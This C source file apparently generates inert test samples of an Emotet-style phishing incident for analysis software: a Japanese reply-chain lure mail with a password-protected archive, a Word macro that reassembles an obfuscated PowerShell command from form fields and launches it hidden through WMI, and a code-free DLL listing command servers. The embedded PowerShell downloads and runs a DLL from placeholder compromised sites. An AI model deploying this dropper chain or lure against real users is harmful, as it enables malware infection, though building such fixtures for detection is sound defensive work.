/* example.c - the mail of the example incident, and the loader its sites gave out.
 *
 * The shape is Emotet's of 2020: an answer to a stolen mail, an encrypted archive whose password
 * stands in the text, a document whose macro takes its strings from a form and has WMI start
 * PowerShell, a list of compromised sites, a library with a table of command servers. Nothing of it
 * leads anywhere: names end in .example, addresses are those of the documentation networks, the
 * library's code is one return instruction. */
#include "base/enc.h"
#include "base/utf.h"
#include "oforms/oforms.h"
#include "samples.h"
#include "support/mail_writer.h"
#include "support/office_writer.h"
#include "support/oforms_writer.h"
#include "support/pe_writer.h"
#include "support/vba_writer.h"
#include "support/zip_writer.h"

#define PASSWORD "1014"
#define CHUNK    120u

static const char script[] =
        "$f=$env:USERPROFILE+'\\Ksm2rq.dll';"
        "$u='http://hana-sato.example/wp-includes/Rk2/@http://kissaten-aoi.example/wp-content/"
        "Xq3nb8k/@http://yamabiko-cycle.example/cgi-bin/z7/'.Split('@');"
        "foreach($i in $u){try{(New-Object Net.WebClient).DownloadFile($i,$f);"
        "if((Get-Item $f).Length -ge 30000){&rundll32.exe $f,Control_RunDLL;break}}catch{}}";

/* ---- The document ---- */

static const char macro[] =
        "Private Sub Document_Open()\r\n"
        "    Dim a As String, i As Integer\r\n"
        "    For i = 0 To Val(UserForm1.Tag) - 1\r\n"
        "        a = a & UserForm1.Controls(\"t\" & i).Text\r\n"
        "    Next\r\n"
        "    a = Replace(UserForm1.Label1.Caption, \"q7\", \"\") & Replace(a, \"q7\", \"\")\r\n"
        "    Set w = GetObject(StrReverse(UserForm1.CommandButton1.ControlTipText))\r\n"
        "    Set s = w.Get(\"Win32_ProcessStartup\").SpawnInstance_\r\n"
        "    s.ShowWindow = 0\r\n"
        "    w.Get(\"Win32_Process\").Create a, Null, s, p\r\n"
        "End Sub\r\n";

/* Every fourth character is followed by noise. */
static void add_noisy(struct hn_buf *out, struct hn_text text)
{
    for (size_t i = 0; i < text.len; i++) {
        hn_buf_add_char(out, text.ptr[i]);
        if (i % 4 == 3)
            hn_buf_add_lit(out, "q7");
    }
}

#define PIECES_MAX 32

struct form_texts {
    struct hn_buf pieces[PIECES_MAX];
    struct hn_buf label;
    char names[PIECES_MAX][8];
    size_t count;
    char tag[8];
};

static void add_macros(void *ctx, struct cfb_writer *cfb)
{
    static const struct vba_writer_module modules[] = {
        { .name = "ThisDocument", .type = VBA_WRITER_DOCUMENT, .source = macro },
        { .name = "UserForm1", .type = VBA_WRITER_FORM, .source = "" },
    };
    const struct vba_writer_project project = { .name = "Project", .modules = modules, .count = 2 };
    const struct form_texts *texts = ctx;
    struct oforms_writer_control controls[PIECES_MAX + 2] = { { .name = NULL } };
    struct oforms_writer_form form = { .caption = "UserForm1", .controls = controls };

    for (size_t i = 0; i < texts->count; i++) {
        controls[i].kind = OFORMS_TEXT_BOX;
        controls[i].name = texts->names[i];
        controls[i].value = texts->pieces[i].ptr;
    }
    controls[texts->count] = (struct oforms_writer_control){
        .kind = OFORMS_LABEL, .name = "Label1", .caption = texts->label.ptr
    };
    controls[texts->count + 1] = (struct oforms_writer_control){
        .kind = OFORMS_COMMAND_BUTTON, .name = "CommandButton1", .tip = "2vmic\\toor:stmgmniw"
    };
    form.count = texts->count + 2;
    form.tag = texts->tag;
    vba_writer_put(cfb, "Macros", &project);
    oforms_writer_put(cfb, "Macros/UserForm1", &form);
}

static void write_document(struct hn_buf *out)
{
    struct form_texts texts = { .count = 0 };
    struct hn_buf wide = { 0 };
    struct hn_buf coded = { 0 };
    struct office_writer_doc doc = {
        .text = "This document was made with an earlier version of Word.\r"
                "Choose \"Enable editing\" and \"Enable content\" to see it.\r",
        .add = add_macros,
        .ctx = &texts
    };

    hn_utf8_to_utf16le(&wide, hn_text_of(script, sizeof script - 1));
    hn_base64_encode(&coded, hn_bytes_of(wide.ptr, wide.len));
    add_noisy(&texts.label, HN_TEXT(SAMPLE_COMMAND));
    hn_buf_add_char(&texts.label, '\0');
    for (struct hn_text rest = hn_buf_text(&coded); rest.len > 0 && texts.count < PIECES_MAX;
            rest = hn_text_sub(rest, CHUNK, SIZE_MAX)) {
        struct hn_buf name = hn_buf_over(texts.names[texts.count], sizeof texts.names[0]);

        hn_buf_addf(&name, "t%u", (unsigned)texts.count);
        hn_buf_add_char(&name, '\0');
        add_noisy(&texts.pieces[texts.count], hn_text_sub(rest, 0, CHUNK));
        hn_buf_add_char(&texts.pieces[texts.count], '\0');
        texts.count++;
    }
    {
        struct hn_buf tag = hn_buf_over(texts.tag, sizeof texts.tag);

        hn_buf_addf(&tag, "%u", (unsigned)texts.count);
        hn_buf_add_char(&tag, '\0');
    }
    office_writer_doc(&doc, out);
    for (size_t i = 0; i < texts.count; i++)
        hn_buf_deinit(&texts.pieces[i]);
    hn_buf_deinit(&texts.label);
    hn_buf_deinit(&coded);
    hn_buf_deinit(&wide);
}

/* ---- The mail ---- */

void sample_example_mail(struct hn_buf *out)
{
    struct mail_writer *mail = mail_writer_new(MAIL_WRITER_ISO_2022_JP);
    struct zip_writer zip = { .count = 0 };
    struct hn_buf document = { 0 };
    struct zip_writer_entry entry = { .name = HN_TEXT("20261014_見積書.doc"),
        .name_utf8 = true,
        .deflate = true,
        .password = PASSWORD };

    write_document(&document);
    entry.data = hn_bytes_of(document.ptr, document.len);
    zip_writer_add(&zip, &entry);
    mail_writer_header(mail, "Received",
            "from mail.yamabiko-cycle.example (unknown [203.0.113.140]) by "
            "hw-mgw01.hinomi-works.example with ESMTP; Wed, 14 Oct 2026 08:52:00 +0900");
    mail_writer_header(mail, "From",
            "小林 <h.kobayashi@hinomi-works.example> <accounting@yamabiko-cycle.example>");
    mail_writer_header(mail, "To", "h.kobayashi@hinomi-works.example");
    mail_writer_header(mail, "Subject", "Re: 見積書の件");
    mail_writer_header(mail, "Date", "Wed, 14 Oct 2026 08:52:00 +0900");
    mail_writer_header(mail, "Message-ID", "<20261014085200.7@yamabiko-cycle.example>");
    mail_writer_text(mail, "お世話になっております。\n"
                           "見積書を添付いたします。ご確認をお願いいたします。\n"
                           "\n"
                           "添付ファイルのパスワードは「" PASSWORD "」です。\n"
                           "\n"
                           "----- Original Message -----\n"
                           "From: 営業部 <eigyo@hinomi-works.example>\n"
                           "Sent: Friday, October 2, 2026 4:12 PM\n"
                           "Subject: 見積書の件\n"
                           "\n"
                           "> 先日お願いした見積書ですが、いつごろいただけますでしょうか。\n");
    mail_writer_attach(mail, "20261014_見積書.zip", "application/zip", zip_writer_end(&zip, true));
    mail_writer_finish(mail, out);
    mail_writer_free(mail);
    zip_writer_deinit(&zip);
    hn_buf_deinit(&document);
}

/* ---- The loader ---- */

static const struct {
    uint8_t address[4];
    uint16_t port;
} servers[] = {
    { { 198, 51, 100, 23 }, 8080 },
    { { 203, 0, 113, 77 }, 8080 },
    { { 192, 0, 2, 61 }, 8080 },
    { { 198, 51, 100, 140 }, 443 },
    { { 203, 0, 113, 9 }, 7080 },
    { { 192, 0, 2, 200 }, 80 },
};

void sample_example_loader(struct hn_buf *out)
{
    static const char *const version[] = { "CompanyName", "Example", "FileDescription",
        "Inert library of the example incident", NULL };
    struct hn_buf data = { 0 };
    struct hn_buf info = { 0 };
    struct pe_writer pe;

    hn_buf_add_lit(&data, "Nothing in this file is a program. See examples/README.md in Hinomi.\0");
    hn_buf_add_repeat(&data, '\0', (8 - data.len % 8) % 8);
    for (size_t i = 0; i < HN_COUNT_OF(servers); i++) {
        for (size_t k = 0; k < 4; k++)
            hn_buf_add_char(&data, (char)servers[i].address[3 - k]);
        hn_buf_add_char(&data, (char)(servers[i].port & 0xFF));
        hn_buf_add_char(&data, (char)(servers[i].port >> 8));
        hn_buf_add_repeat(&data, '\0', 2);
    }
    hn_buf_add_repeat(&data, '\0', 8);
    pe_begin(&pe, false, true);
    pe.export_name = "Ksm2rq.dll";
    pe_section(&pe, ".data", hn_text_as_bytes(hn_buf_text(&data)), PE_WRITER_DATA);
    pe_import(&pe, "KERNEL32.dll", "GetTickCount");
    pe_version(&info, version);
    pe_resource(&pe, 16, 1, hn_text_as_bytes(hn_buf_text(&info)));
    pe_end(&pe, out);
    hn_buf_deinit(&info);
    hn_buf_deinit(&data);
}
